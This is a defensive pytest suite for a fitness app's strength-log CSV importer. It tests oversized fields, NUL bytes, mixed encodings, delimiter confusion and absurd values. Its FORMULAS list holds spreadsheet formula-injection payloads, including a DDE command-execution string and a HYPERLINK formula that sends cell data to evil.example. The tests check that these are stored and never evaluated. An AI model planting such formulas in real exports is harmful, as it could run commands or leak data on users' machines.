"""Hostile Strong/Hevy CSVs: each is a typed error naming the file and the line, or a clean
import whose skipped rows say which line and why. Nothing a cell holds is evaluated."""

from __future__ import annotations

import csv
import gzip
import io
import time
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st

import legday.io.strength_csv as strength_mod
from legday.errors import CorruptFileError, LegdayError, OnError, UnsupportedFileError
from legday.io.strength_csv import StrengthImport, read_strength_csv
from legday.model import AthleteProfile
from legday.settings import Settings
from legday.store.blobs import BlobStore
from legday.store.db import open_database
from legday.store.importer import FileReport
from legday.store.library import Library
from legday.store.schema import SetRow, StrengthSessionRow

STRONG = "Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,Distance,Seconds,RPE\n"
HEVY = (
    "title,start_time,end_time,description,exercise_title,superset_id,exercise_notes,"
    "set_index,set_type,weight_kg,reps,distance_km,duration_seconds,rpe\n"
)


def strong_row(
    exercise: str = "Squat (Barbell)",
    *,
    date: str = "2024-11-28 17:36:08",
    workout: str = "Legs",
    weight: str = "100",
    reps: str = "5",
    sep: str = ",",
) -> str:
    cells = [date, workout, "35m", exercise, "1", weight, reps, "0", "0", ""]
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\n").writerow(cells)
    return out.getvalue()


def read(text: str | bytes, name: str = "log.csv", **kw: object) -> StrengthImport:
    data = text.encode() if isinstance(text, str) else text
    return read_strength_csv(io.BytesIO(data), name=name, **kw)  # type: ignore[arg-type]


def import_files(tmp_path: Path, files: dict[str, bytes]) -> tuple[Library, list[FileReport]]:
    """Import ``files`` (name → bytes) through the library; returns it (open) and the reports."""
    folder = tmp_path / "in"
    folder.mkdir()
    paths = []
    for name, data in files.items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    lib = Library(
        db=open_database(f"sqlite:///{tmp_path / 'db.sqlite'}"),
        blobs=BlobStore(tmp_path / "originals"),
        profile=AthleteProfile(time_zone="Asia/Tokyo"),
        settings=Settings(),
    )
    return lib, lib.import_paths(paths, workers=1).files


# --- field size, NUL bytes, encodings --------------------------------------------------------


def test_a_gigantic_field_is_a_typed_error_with_the_line() -> None:
    big = "x" * (csv.field_size_limit() + 1)
    with pytest.raises(CorruptFileError, match=r"^huge\.csv line 3: bad CSV: field larger") as e:
        read(STRONG + strong_row() + strong_row(big), name="huge.csv")
    assert e.value.path == "huge.csv" and e.value.line == 3
    with pytest.raises(CorruptFileError, match=r"^huge\.csv line 1: bad CSV header"):
        read(STRONG.replace("RPE", "RPE " + big), name="huge.csv")
    # just under the limit is a (long) exercise name, kept as written
    name = "y" * (csv.field_size_limit() - 10)
    assert read(STRONG + strong_row(name)).sessions[0].sets[0].raw_name == name


def test_nul_bytes() -> None:
    # at the start: binary, refused
    with pytest.raises(UnsupportedFileError, match=r"^nul\.csv line 1: binary data"):
        read(b"\x00\x01" + STRONG.encode(), name="nul.csv")
    # past the first 4 KiB: that row is skipped, named by its line; nothing with a NUL is kept
    rows = strong_row() * 200
    text = STRONG + rows + strong_row("Sq\x00uat") + strong_row("Deadlift", workout="N\x00")
    result = read(text)
    assert [(r.line, r.reason) for r in result.skipped_rows] == [
        (202, "a NUL byte in the row (binary data, not text)"),
        (203, "a NUL byte in the row (binary data, not text)"),
    ]
    assert result.sets == 200
    assert not any("\x00" in (s.raw_name or "") for x in result.sessions for s in x.sets)
    with pytest.raises(CorruptFileError, match=r"^log\.csv line 202: a NUL byte"):
        read(text, on_error=OnError.RAISE)


def test_mixed_encodings_keep_the_utf8_lines_intact() -> None:
    utf8 = (STRONG + strong_row("Kniebeuge (Langhantel)", workout="Übung ✓")).encode()
    latin = strong_row("Bankdrücken", workout="Brust").encode("cp1252")
    result = read(utf8 + latin)
    workouts = {s.name for s in result.sessions}
    assert workouts == {"Übung ✓", "Brust"}  # the UTF-8 line is not read as Windows-1252
    assert {s.raw_name for x in result.sessions for s in x.sets} == {
        "Kniebeuge (Langhantel)",
        "Bankdrücken",
    }
    assert any("line 3" in w and "Windows-1252" in w for w in result.warnings), result.warnings
    # a whole file in Windows-1252 reads as before
    assert read(latin.join([STRONG.encode(), b""])).sessions[0].sets[0].raw_name == "Bankdrücken"


def test_utf16_csv_reads_like_utf8() -> None:
    text = STRONG + strong_row("Bankdrücken (Langhantel)") + strong_row()
    for encoding in ("utf-16", "utf-16-be"):  # Excel's "Unicode text" writes the BOM first
        data = text.encode(encoding)
        if encoding == "utf-16-be":
            data = b"\xfe\xff" + data
        got = read(data, name="u16.csv")
        assert got.sessions == read(text, name="u16.csv").sessions, encoding
    with pytest.raises(CorruptFileError, match=r"^u16\.csv .*UTF-16"):
        read(text.encode("utf-16")[:-1] + b"\x00\xd8", name="u16.csv")  # a lone surrogate


def test_lifting_logs_inside_a_zip_are_imported(tmp_path: Path) -> None:
    log = (STRONG + strong_row() + strong_row("Romanian Deadlift (Barbell)")).encode("utf-16")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("exports/strong.csv", log)
        zf.writestr("notes.csv", "a,b\n1,2\n")  # not a lifting log: passed by, no failure
    lib, reports = import_files(tmp_path, {"backup.zip": buf.getvalue()})
    lib.close()
    (report,) = reports
    assert report.status == "imported" and report.path.endswith("backup.zip!exports/strong.csv")
    assert report.sets == 2


# --- formula injection: stored verbatim, never evaluated -------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\t",
]


def test_formula_strings_round_trip_verbatim(tmp_path: Path) -> None:
    rows = "".join(
        strong_row(f, workout=f, date=f"2024-11-{i + 1:02d} 17:00") for i, f in enumerate(FORMULAS)
    )
    hevy = HEVY + "".join(
        f'"{f}","{i + 1} Dec 2024, 10:00","{i + 1} Dec 2024, 11:00","{f}","{f}",,"{f}",0,normal,'
        f"20,5,,,\n"
        for i, f in enumerate(f.replace('"', '""') for f in FORMULAS)
    )
    lib, reports = import_files(
        tmp_path, {"strong.csv": (STRONG + rows).encode(), "hevy.csv": hevy.encode()}
    )
    try:
        assert [r.status for r in reports] == ["imported", "imported"], reports
        assert [r.sets for r in reports] == [len(FORMULAS)] * 2
        with lib.db.session() as s:
            raw = s.scalars(sa.select(SetRow.raw_name)).all()
            names = s.scalars(sa.select(StrengthSessionRow.name)).all()
            notes = s.scalars(sa.select(SetRow.notes)).all()
    finally:
        lib.close()
    # stripped of surrounding blanks like any cell, otherwise byte for byte
    assert sorted(raw) == sorted([f.strip() for f in FORMULAS] * 2)
    assert sorted(names) == sorted([f.strip() for f in FORMULAS] * 2)
    assert sorted(n for n in notes if n) == sorted(f.strip() for f in FORMULAS)


@pytest.mark.parametrize("cell", ["=1+1", "=SUM(A1:A3)", "1e3*2", "0x10", "5 kg"])
def test_formulas_in_number_cells_are_skipped_not_computed(cell: str) -> None:
    result = read(STRONG + strong_row(weight=cell) + strong_row(reps=cell))
    assert [r.line for r in result.skipped_rows] == [2, 3]
    assert all(cell in r.reason for r in result.skipped_rows)


# --- shapes ---------------------------------------------------------------------------------


def test_header_only_imports_cleanly_once(tmp_path: Path) -> None:
    lib, reports = import_files(tmp_path, {"empty.csv": STRONG.encode(), "h.csv": HEVY.encode()})
    try:
        assert [(r.status, r.sessions, r.skipped_rows) for r in reports] == [
            ("imported", 0, 0),
            ("imported", 0, 0),
        ]
        again = lib.import_paths([tmp_path / "in"], workers=1).files
        assert {r.status for r in again} == {"duplicate"}
    finally:
        lib.close()


def test_a_hundred_thousand_rows_of_garbage_is_quick(tmp_path: Path) -> None:
    garbage = "".join(f"{i},{i * 7919 % 101}x;zz,\n" for i in range(100_000))
    t0 = time.perf_counter()
    lib, reports = import_files(tmp_path, {"garbage.csv": (STRONG + garbage).encode()})
    lib.close()
    assert time.perf_counter() - t0 < 15
    (report,) = reports
    assert (report.status, report.sessions, report.skipped_rows) == ("imported", 0, 100_000)
    result = read(STRONG + garbage)
    assert [r.line for r in result.skipped_rows] == list(range(2, 100_002))
    assert result.skipped_rows[0].reason == "expected 10 fields, got 3"


def test_distinct_unknown_exercise_names_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(strength_mod, "MAX_UNKNOWN_EXERCISES", 20)
    rows = "".join(strong_row(f"Qzx{i} Wibble") for i in range(60))
    result = read(STRONG + strong_row("Squat (Barbell)") + rows + strong_row("Qzx3 Wibble"))
    kept = [s.raw_name for x in result.sessions for s in x.sets]
    assert kept == ["Squat (Barbell)", *[f"Qzx{i} Wibble" for i in range(20)], "Qzx3 Wibble"]
    assert [r.line for r in result.skipped_rows] == list(range(23, 63))
    assert "20 not in the catalog" in result.skipped_rows[0].reason


def test_absurd_reps_and_dates_are_skipped_rows(tmp_path: Path) -> None:
    """Found by this suite: reps of 1e300 overflowed SQLite's INTEGER, and 0001-01-01 in a zone
    east of UTC overflowed ``datetime``, and both escaped the import (every file lost)."""
    rows = (
        strong_row(reps="1e300")
        + strong_row(reps="1e10")
        + strong_row(date="0001-01-01 00:00:00")
        + strong_row(date="9999-12-31 23:59:59")  # in the calendar, but no real session's year
        + strong_row(date="2100-12-31 23:59:59", workout="ok")
    )
    good = STRONG + strong_row("Deadlift (Barbell)", date="2024-12-01 10:00")
    lib, reports = import_files(
        tmp_path, {"a_bad.csv": (STRONG + rows).encode(), "b_good.csv": good.encode()}
    )
    lib.close()
    bad, ok = reports
    assert (bad.status, bad.sessions, bad.skipped_rows) == ("imported", 1, 4), bad
    assert (ok.status, ok.sets) == ("imported", 1)
    result = read(STRONG + rows, profile_tz="Asia/Tokyo")
    reasons = [r.reason for r in result.skipped_rows]
    assert "reps in one set" in reasons[0] and "reps in one set" in reasons[1]
    assert "out of range" in reasons[2]
    assert "the year 9999 is outside 1900–2100" in reasons[3]


@pytest.mark.parametrize(
    ("text", "sets", "skipped"),
    [
        # semicolon export with decimal commas: read
        (STRONG.replace(",", ";") + strong_row(weight="102,5", sep=";"), 1, 0),
        # semicolon header, comma rows: every row one field, skipped with its line
        (STRONG.replace(",", ";") + strong_row() * 3, 0, 3),
        # comma header, semicolon rows
        (STRONG + strong_row(sep=";") * 2 + strong_row(), 1, 2),
        # decimal comma in a comma file, unquoted: one field too many
        (STRONG + strong_row().replace(",100,", ",102,5,"), 0, 1),
    ],
    ids=["semicolon", "semicolon-header", "semicolon-rows", "decimal-comma"],
)
def test_delimiter_confusion(text: str, sets: int, skipped: int) -> None:
    result = read(text)
    assert (result.sets, len(result.skipped_rows)) == (sets, skipped)
    assert all("fields" in r.reason for r in result.skipped_rows)
    if sets:
        assert result.sessions[0].sets[0].load_kg in (100.0, 102.5)


# --- property: any text in a cell ------------------------------------------------------------

cells = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(
    row=st.lists(cells, min_size=0, max_size=12),
    sep=st.sampled_from([",", ";", "\t"]),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE]),
)
def test_any_row_is_a_set_a_skipped_row_or_a_typed_error(
    row: list[str], sep: str, quoting: int
) -> None:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=sep, quoting=quoting, escapechar="\\", lineterminator="\n")
    try:
        writer.writerow(row)
    except csv.Error:
        return  # QUOTE_NONE cannot write this row
    text = STRONG + strong_row() + out.getvalue()
    try:
        result = read(text, name="prop.csv")
    except LegdayError as exc:
        assert str(exc).startswith("prop.csv")
        return
    lines = len(io.StringIO(text, newline="").readlines())  # as the csv module counts them
    assert result.sets >= 1  # the good row
    assert all(3 <= r.line <= lines for r in result.skipped_rows), result.skipped_rows


# --- on both back ends: what SQLite keeps, PostgreSQL refuses --------------------------------


def _strava_zip(csv_text: str, activity: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("activities.csv", csv_text)
        zf.writestr("activities/1.gpx.gz", gzip.compress(activity, mtime=0))
    return buf.getvalue()


STRAVA_HEADER = "Activity ID,Activity Name,Activity Type,Activity Description,Filename\n"


def test_nul_and_absurd_values_on_both_back_ends(
    db_url: str, tmp_path: Path, real_dir: Path
) -> None:
    """PostgreSQL refuses NUL in text, which SQLite stores: a NUL in a Strava activities.csv
    failed the activity itself on PostgreSQL. Now the CSV is reported (with its line) and the
    run imports without its Strava name, on both back ends, as do a lifting log's other rows."""
    gpx = (real_dir / "togeojson/test/data/missing_hr.gpx").read_bytes()
    strava = STRAVA_HEADER + "1,Hill\x00 reps,Run,Legs\x00,activities/1.gpx.gz\n"
    log = STRONG + strong_row() * 200 + strong_row("Sq\x00uat") + strong_row(reps="99999999999")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "export.zip").write_bytes(_strava_zip(strava, gpx))
    (folder / "log.csv").write_bytes(log.encode())
    lib = Library(
        db=open_database(db_url),
        blobs=BlobStore(tmp_path / "originals"),
        profile=AthleteProfile(),
        settings=Settings(),
    )
    try:
        files = lib.import_paths([folder], workers=1).files
        reports = {r.path.removeprefix(f"{folder}/"): r for r in files}
        with lib.db.session() as s:
            stored_sets = s.scalar(sa.select(sa.func.count()).select_from(SetRow))
    finally:
        lib.close()
    csv_report = reports["export.zip!activities.csv"]
    assert csv_report.status == "failed"
    where = f"{folder / 'export.zip'}!activities.csv"
    assert csv_report.error == f"{where} line 2: a NUL byte in the text"
    assert reports["export.zip!activities/1.gpx.gz"].status == "imported"
    assert (reports["log.csv"].status, reports["log.csv"].skipped_rows) == ("imported", 2)
    assert stored_sets == reports["log.csv"].sets == 200


def test_a_gigantic_strava_field_names_the_line(tmp_path: Path) -> None:
    from legday.io.archive import iter_archive_members

    big = "x" * (csv.field_size_limit() + 1)
    strava = STRAVA_HEADER + "1,a,Run,b,activities/1.gpx.gz\n" + f'2,"{big}",Run,,\n'
    (tmp_path / "export.zip").write_bytes(_strava_zip(strava, b"<gpx/>"))
    members = list(iter_archive_members(tmp_path / "export.zip"))
    assert members[0].error is not None
    expected = "activities.csv line 3: bad CSV: field larger than field limit (131072)"
    assert str(members[0].error).endswith(expected)
    assert members[1].data is not None  # the activity is still read
